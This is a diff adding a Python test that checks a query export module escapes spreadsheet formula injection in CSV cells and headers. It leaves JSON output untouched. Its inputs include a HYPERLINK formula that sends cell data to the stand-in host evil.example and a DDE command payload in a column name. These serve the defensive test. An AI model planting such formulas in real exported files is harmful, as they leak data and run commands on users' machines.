@@ -137,6 +137,33 @@ def test_csv_has_a_header_and_quotes_values() -> None:
     assert text.endswith("\r\n")
 
 
+def test_csv_cells_never_run_as_spreadsheet_formulas() -> None:
+    """Text a tenant's data (or a column alias) holds reaches a spreadsheet as text; numbers stay numbers. The JSON
+    form is data for programs and stays as it is."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    row = [formula, "+1", "-1", "@A1", "\t=1", "\r=1", "ok", -5, Decimal("-1.50"), b"\xfb\xff", ["=x"]]
+    columns = [Column("=cmd|' /C calc'!A0", "varchar")] + [Column(f"c{i}", "x") for i in range(1, len(row))]
+    query = RunningQuery(columns, _Cursor([]), _Conn(), [row], Limits(5, 30), 1e12)
+    text = b"".join(sqlquery.stream(query, "csv")).decode()
+    header, cells = list(csv.reader(io.StringIO(text)))
+    assert header[0] == "'=cmd|' /C calc'!A0"
+    assert cells == [
+        "'" + formula,
+        "'+1",
+        "'-1",
+        "'@A1",
+        "'\t=1",
+        "'\r=1",
+        "ok",
+        "-5",
+        "-1.50",
+        "'+/8=",
+        '["=x"]',
+    ]
+    query = RunningQuery(columns, _Cursor([]), _Conn(), [row], Limits(5, 30), 1e12)
+    assert _json(query)["rows"][0][0] == formula
+
+
 def test_json_values_of_every_type() -> None:
     row = [Decimal("3.14"), datetime(2026, 1, 2, 3, 4, tzinfo=UTC), b"\x00\x01", {"k": [Decimal("1")]}, True, None]
     query = RunningQuery([Column(str(i), "x") for i in range(6)], _Cursor([]), _Conn(), [row], Limits(5, 30), 1e12)
